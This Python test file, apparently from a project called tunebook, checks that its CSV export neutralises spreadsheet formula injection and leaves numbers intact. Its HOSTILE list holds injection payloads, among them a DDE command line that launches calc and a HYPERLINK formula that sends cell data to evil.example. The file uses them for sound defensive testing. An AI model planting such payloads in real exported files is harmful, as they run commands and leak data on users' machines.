"""Row 38: text that a spreadsheet would run is harmless in CSV, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas
import pytest
from hypothesis import given
from hypothesis import strategies as st

from exported import floats, results_of
from tunebook.core.curves import Curve
from tunebook.core.results import Results
from tunebook.exchange import comma_separated

RUN = "=+-@\t\r\n＝＋－＠"  # noqa: RUF001
HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"ok")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "＝1+1",  # noqa: RUF001
)
hostile = st.one_of(
    st.sampled_from(HOSTILE),
    st.builds(str.__add__, st.sampled_from(RUN), st.text(max_size=8)),
)


def written(results: Results, raw: bool = False) -> str:
    parts = [*comma_separated.lines(results, "trials", raw=raw)]
    return b"".join(parts).decode()


def rows(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content, newline="")))


@given(st.lists(hostile, min_size=1, max_size=4))
def test_no_cell_of_text_can_be_run(values: list[str]) -> None:
    results = results_of([{"x": value} for value in values], reasons=values)
    found = rows(written(results))
    for row in found:
        for name, cell in zip(found[0], row, strict=True):
            if name in ("params.x", "reason"):
                assert not cell.lstrip(" ").startswith(tuple(RUN))
    assert [comma_separated.original(row[-1]) for row in found[1:]] == values
    assert [row[-1] for row in rows(written(results, raw=True))[1:]] == values


@pytest.mark.parametrize("text", HOSTILE)
def test_the_name_of_a_metric_cannot_be_run(text: str) -> None:
    curve = Curve.of([1], [-0.5])
    lines = b"".join(comma_separated.lines(results_of([{}], [{text: curve}]), "curves")).decode()
    (row,) = rows(lines)[1:]
    assert row == ["1", f"'{text}", "1", "-0.5", "0.0"]


@given(st.lists(st.tuples(floats, st.integers(-(2**63), 2**63 - 1)), min_size=1, max_size=6))
def test_numbers_are_untouched(pairs: list[tuple[float, int]]) -> None:
    results = results_of([{"real": real, "whole": whole} for real, whole in pairs])
    found = pandas.read_csv(io.StringIO(written(results)))
    real = np.array([pair[0] for pair in pairs])
    assert np.array_equal(found["params.real"].to_numpy(dtype=float), real, equal_nan=True)
    assert found["params.whole"].tolist() == [pair[1] for pair in pairs]


def test_a_negative_number_stays_a_number() -> None:
    assert written(results_of([{"x": -0.5}])).splitlines()[1].endswith(",-0.5")
